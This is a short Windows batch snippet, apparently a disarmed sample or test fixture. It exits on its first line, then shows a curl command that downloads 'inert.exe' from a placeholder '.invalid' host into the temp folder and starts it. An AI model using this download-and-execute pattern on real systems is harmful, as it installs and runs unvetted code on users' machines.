exit /b
curl -o %TEMP%\inert.exe http://files.invalid/inert.exe
start %TEMP%\inert.exe
